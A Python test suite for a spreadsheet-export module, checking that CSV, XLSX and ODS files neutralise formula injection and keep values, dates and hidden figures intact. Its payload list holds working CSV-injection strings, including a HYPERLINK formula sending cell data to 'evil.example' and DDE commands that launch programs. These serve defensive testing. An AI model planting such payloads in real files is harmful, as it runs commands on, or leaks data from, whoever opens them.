"""Files of tables: opened again, they hold what was put in, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import io
import re
import zipfile
from decimal import Decimal
from fractions import Fraction
from typing import Any

import odf.opendocument
import odf.table
import openpyxl
import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st
from odf import teletype

from gilydd.algorithms import disclosure
from gilydd.ui import sheets
from gilydd.ui.sheets import KINDS, Table, sheet_response, write

# What people really put into name fields to make somebody else's spreadsheet run it.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
]
INSIDE = ["Mair;=1+1", "Mair\n=1+1", "Mair\t@SUM(1)", 'Mair"\r\n-1+1', "Mair; +1"]
BEGINS = "=+-@＝＋－＠\t\r\n\x00"


def cells(made: bytes, kind: str) -> list[list[Any]]:
    """Every row of every sheet, as whoever opens the file reads it."""
    if kind == "csv":
        return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
    if kind == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(made))
        return [[cell.value for cell in row] for sheet in book for row in sheet.rows]
    book = odf.opendocument.load(io.BytesIO(made))
    return [
        [_odf_value(cell) for cell in row.getElementsByType(odf.table.TableCell)]
        for row in book.spreadsheet.getElementsByType(odf.table.TableRow)
    ]


def _odf_value(cell: Any) -> Any:
    kind = cell.getAttribute("valuetype")
    if kind == "float":
        return float(cell.getAttribute("value"))
    if kind == "date":
        text = cell.getAttribute("datevalue")
        return dt.datetime.fromisoformat(text)
    if kind is None:
        return None
    return "\n".join(teletype.extractText(line) for line in cell.childNodes)


def test_the_examples_in_the_docstrings_are_true() -> None:
    assert doctest.testmod(sheets).failed == 0


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_comes_back_as_a_formula(kind: str, text: str) -> None:
    made = write([Table(text, [text], [[text]])], kind)
    for row in cells(made, kind):
        for cell in row:
            assert cell[0] == "'"
    if kind == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(made))
        assert {cell.data_type for row in book.worksheets[0].rows for cell in row} == {"s"}
    if kind == "ods":
        assert b"table:formula" not in zipfile.ZipFile(io.BytesIO(made)).read("content.xml")


@pytest.mark.parametrize("text", INSIDE)
def test_no_formula_begins_inside_a_text_where_another_sign_parts_the_columns(text: str) -> None:
    (_head, (cell,)) = cells(write([Table("t", ["h"], [[text]])], "csv"), "csv")
    parts = [part.lstrip(" ") for part in re.split(r"[;\t\r\n]", cell)]
    assert [part for part in parts if part and part[0] in BEGINS] == []


@pytest.mark.parametrize("kind", KINDS)
def test_numbers_stay_numbers_and_days_stay_days(kind: str) -> None:
    day, moment = dt.date(2026, 3, 2), dt.datetime(2026, 3, 2, 10, 30)
    rows = [[-90, Decimal("-1.50"), day, moment, None, "Siân Ŵyr"]]
    _head, row = cells(write([Table("Cyfriflen", ["a", "b", "c", "d", "e", "f"], rows)], kind), kind)
    if kind == "csv":
        assert row == ["-90", "-1.50", "2026-03-02", "2026-03-02 10:30", "", "Siân Ŵyr"]
    else:
        assert row == [-90, -1.5, dt.datetime(2026, 3, 2), moment, None, "Siân Ŵyr"]


def test_csv_begins_with_a_byte_order_mark_and_quotes_every_text() -> None:
    made = write([Table("t", ["Enw"], [["a,b"], [3]])], "csv")
    assert made == b'\xef\xbb\xbf"Enw"\r\n"a,b"\r\n3\r\n'


def test_an_aware_moment_is_written_in_local_time() -> None:
    moment = dt.datetime(2026, 7, 1, 22, 30, tzinfo=dt.UTC)
    assert cells(write([Table("t", ["h"], [[moment]])], "csv"), "csv")[1] == ["2026-07-01 23:30"]


@pytest.mark.parametrize("kind", KINDS)
def test_a_hidden_figure_about_people_stays_hidden(kind: str) -> None:
    rows = [
        [disclosure.count(3, "people"), disclosure.count(43, "people")],
        [disclosure.minutes(600, 40, "people"), disclosure.share(5, 1000, "people")],
        [disclosure.share(61, 100, "people"), disclosure.minutes(60, 20, "people")],
    ]
    shown = [
        [str(cell) for cell in row] for row in cells(write([Table("t", ["a", "b"], rows)], kind), kind)[1:]
    ]
    assert [[cell.removesuffix(".0") for cell in row] for row in shown] == [
        ["[c]", "45"],
        ["10", "[c]"],
        ["60%", "[k]"],
    ]


@pytest.mark.parametrize("value", [1.5, True, b"x", Fraction(1, 2), object()])
def test_a_float_a_truth_and_other_things_are_refused(value: Any) -> None:
    with pytest.raises(TypeError, match="a cell of a sheet is"):
        write([Table("t", ["h"], [[value]])], "csv")


def test_an_unknown_kind_and_no_table_are_refused() -> None:
    with pytest.raises(ValueError, match="kind is one of csv, xlsx, ods"):
        write([Table("t", ["h"])], "pdf")
    with pytest.raises(ValueError, match="at least one table"):
        write([], "csv")


def test_the_head_is_frozen_bold_and_the_columns_are_wide_enough() -> None:
    table = Table("t", ["a", "b"], [["x" * 30, "y" * 500]])
    sheet = openpyxl.load_workbook(io.BytesIO(write([table], "xlsx"))).active
    assert (sheet.freeze_panes, sheet["A1"].font.bold) == ("A2", True)
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (33, 60)
    settings_xml = zipfile.ZipFile(io.BytesIO(write([table], "ods"))).read("settings.xml").decode()
    assert 'config:name="VerticalSplitPosition" config:type="int">1<' in settings_xml


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_sheets_have_titles_that_every_program_takes_and_none_twice(kind: str) -> None:
    long = "A statement of the hours of somebody: all/of it?"
    made = write([Table(long, ["h"]), Table(long, ["h"]), Table("'=1", ["h"])], kind)
    if kind == "xlsx":
        titles = openpyxl.load_workbook(io.BytesIO(made)).sheetnames
    else:
        book = odf.opendocument.load(io.BytesIO(made))
        titles = [one.getAttribute("name") for one in book.spreadsheet.getElementsByType(odf.table.Table)]
    assert len(set(titles)) == 3
    assert all(0 < len(title) <= 31 and not re.search(r"[\[\]:*?/\\']", title) for title in titles)


def test_several_tables_stand_below_each_other_in_csv() -> None:
    rows = cells(write([Table("One", ["a"], [[1]]), Table("Two", ["b"], [[2]])], "csv"), "csv")
    assert rows == [["One"], ["a"], ["1"], [], ["Two"], ["b"], ["2"]]


@pytest.mark.parametrize("kind", KINDS)
def test_words_of_the_page_may_be_lazy(kind: str) -> None:
    assert cells(write([Table("t", [gettext_lazy("Balance")])], kind), kind) == [["Balance"]]


def test_the_answer_is_a_file_to_save_with_its_kind() -> None:
    answer = sheet_response("Cyfriflen: Siân", [Table("t", ["h"])], "ods")
    assert answer["Content-Type"] == KINDS["ods"]
    assert answer["Content-Disposition"] == 'attachment; filename="cyfriflen-sian.ods"'


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
@pytest.mark.parametrize("kind", KINDS)
def test_whatever_people_write_the_file_opens_and_runs_nothing(kind: str, texts: list[str]) -> None:
    read = cells(write([Table("t", ["h"] * len(texts), [texts])], kind), kind)[1]
    assert len(read) == len(texts)
    for cell in read:
        assert cell in (None, "") or cell.lstrip(" ")[:1] not in BEGINS or not cell.strip()
